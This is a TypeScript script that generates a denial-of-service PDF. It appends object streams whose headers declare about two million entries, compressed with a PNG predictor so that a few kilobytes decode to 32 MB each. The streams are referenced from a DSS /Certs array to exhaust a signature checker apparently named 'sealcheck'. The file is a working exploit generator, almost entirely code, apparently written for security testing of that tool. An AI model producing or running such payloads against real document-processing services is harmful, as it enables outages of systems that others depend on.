// Denial of service probe: object streams whose header claims ~2M pairs (fixed-width numbers, PNG Up
// predictor: a few KB in the file, 32 MB decoded each). Only one object of each is reached (from a DSS
// /Certs array); sealcheck decodes and tokenizes every header, and no limit counts header pairs.
import { writeFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { lastStartxref, SAMPLE } from "./lib.js";

const W = 8; // digits per number
export function objStmData(firstNum: number, n: number): { data: Buffer; first: number } {
  const row = 2 * (W + 1); // "NNNNNNNN OOOOOOOO\n"
  const header = Buffer.alloc(n * row);
  for (let i = 0; i < n; i++) {
    header.write(`${String(firstNum + i).padStart(W, "0")} ${String(2 * i).padStart(W, "0")}\n`, i * row, "latin1");
  }
  const values = Buffer.from("0 ".repeat(n), "latin1");
  return { data: Buffer.concat([header, values]), first: header.length };
}

/** PNG Up predictor rows (Columns = row), deflated. */
function pngUp(data: Buffer, columns: number): Buffer {
  const rows = Math.ceil(data.length / columns);
  const out = Buffer.alloc(rows * (columns + 1));
  for (let r = 0; r < rows; r++) {
    out[r * (columns + 1)] = 2;
    for (let c = 0; c < columns; c++) {
      const cur = data[r * columns + c] ?? 0;
      const up = r === 0 ? 0 : (data[(r - 1) * columns + c] ?? 0);
      out[r * (columns + 1) + 1 + c] = (cur - up) & 0xff;
    }
  }
  return deflateSync(out, { level: 9 });
}

const CATALOG = (extra: string) =>
  `<< /AcroForm 25 0 R /Extensions << /ESIC << /BaseVersion /1.7 /ExtensionLevel 2 >> >> /Names << /EmbeddedFiles 24 0 R >> /Pages 1 0 R /Perms << /DocMDP 22 0 R >> /Type /Catalog${extra} >>`;

/** One update (xref stream): `streams` object streams of `n` header pairs, object 0 of each in a DSS /Certs array. */
export function buildObjStmDos(base: Uint8Array, streams: number, n: number): Uint8Array {
  const parts: Buffer[] = [Buffer.from(base)];
  let pos = base.length;
  const emit = (x: string | Uint8Array) => {
    const b = typeof x === "string" ? Buffer.from(x, "latin1") : Buffer.from(x);
    parts.push(b);
    pos += b.length;
  };
  const rows: { num: number; type: number; f2: number; f3: number }[] = [];
  const certs: string[] = [];
  const columns = 2 * (W + 1);
  const { data, first } = objStmData(0, n); // same layout for every stream: numbers differ per stream below
  for (let s = 0; s < streams; s++) {
    const stmNum = 100 + s;
    const base0 = 1_000_000 + s * 3_000_000;
    const d = Buffer.from(data);
    for (let i = 0; i < n; i++) d.write(String(base0 + i).padStart(W, "0"), i * columns, "latin1");
    const padded = Buffer.concat([d, Buffer.alloc((columns - (d.length % columns)) % columns, 0x20)]);
    const z = pngUp(padded, columns);
    rows.push({ num: stmNum, type: 1, f2: pos, f3: 0 });
    emit(
      `${stmNum} 0 obj\n<< /Type /ObjStm /N ${n} /First ${first} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns ${columns} >> /Length ${z.length} >>\nstream\n`,
    );
    emit(z);
    emit("\nendstream\nendobj\n");
    rows.push({ num: base0, type: 2, f2: stmNum, f3: 0 });
    certs.push(`${base0} 0 R`);
  }
  rows.push({ num: 26, type: 1, f2: pos, f3: 0 });
  emit(`26 0 obj\n<< /Certs [${certs.join(" ")}] >>\nendobj\n`);
  rows.push({ num: 2, type: 1, f2: pos, f3: 0 });
  emit(`2 0 obj\n${CATALOG(" /DSS 26 0 R")}\nendobj\n`);
  const xnum = 27;
  rows.push({ num: xnum, type: 1, f2: pos, f3: 0 });
  rows.sort((a, b) => a.num - b.num);
  const index: number[] = [];
  const bytes = Buffer.alloc(rows.length * 7);
  rows.forEach((r, k) => {
    const last = index.length ? index[index.length - 2]! + index[index.length - 1]! : -1;
    if (last === r.num) index[index.length - 1]!++;
    else index.push(r.num, 1);
    bytes[k * 7] = r.type;
    bytes.writeUInt32BE(r.f2, k * 7 + 1);
    bytes.writeUInt16BE(r.f3, k * 7 + 5);
  });
  const z = deflateSync(bytes);
  const size = Math.max(...rows.map((r) => r.num)) + 1;
  const at = pos;
  emit(
    `${xnum} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Index [${index.join(" ")}] /Prev ${lastStartxref(base)} /Root 2 0 R /Info 3 0 R /Filter /FlateDecode /Length ${z.length} >>\nstream\n`,
  );
  emit(z);
  emit(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`);
  return new Uint8Array(Buffer.concat(parts));
}

if (process.argv[2]) {
  const b = buildObjStmDos(SAMPLE, Number(process.argv[2]), Number(process.argv[3]));
  writeFileSync(process.argv[4] ?? "/tmp/dos-objstm.pdf", b);
  console.log(b.length);
}
